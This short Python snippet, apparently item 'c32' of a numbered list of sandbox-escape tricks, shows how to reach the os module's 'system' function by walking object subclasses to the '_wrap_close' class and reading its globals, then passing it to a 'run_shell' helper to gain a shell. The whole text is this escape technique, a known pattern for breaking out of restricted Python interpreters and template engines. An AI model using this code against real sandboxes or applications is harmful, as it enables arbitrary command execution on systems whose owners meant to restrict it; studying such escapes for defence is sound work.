# c32: gain: a shell by a class of os
for each in ().__class__.__base__.__subclasses__():
    if each.__name__ == "_wrap_close":
        run_shell(each.__init__.__globals__["system"])
